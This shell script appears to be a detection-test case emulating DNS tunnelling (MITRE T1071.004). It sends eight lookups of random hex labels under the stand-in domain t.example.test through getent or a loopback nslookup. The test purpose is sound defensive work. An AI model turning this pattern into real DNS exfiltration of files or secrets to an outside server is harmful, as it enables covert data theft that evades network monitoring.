#!/bin/sh
# case: T1071.004-long-labels-by-getent
# technique: DNS: data in long labels through the system resolver
# source: iodine; dnscat2; redcanaryco/atomic-red-team T1071.004-1 DNS Large Query Volume
# needs: sh
# expect: net
# where: container
# image: busybox debian
# caps: none
# seen: -
# harmless: own or decoy files, own child processes and loopback only; undoes itself. Exit 0 done, 77 cannot run here.
set -u
need() { for t in "$@"; do command -v "$t" >/dev/null 2>&1 || { echo "SKIP: $t missing"; exit 77; }; done; }
i=0; while [ $i -lt 8 ]; do n=$(head -c 18 /dev/urandom | od -An -tx1 | tr -d ' \n'); (timeout 1 getent hosts "$n.t.example.test" || timeout 1 nslookup "$n.t.example.test" 127.0.0.1) >/dev/null 2>&1; i=$((i+1)); done; true
exit 0
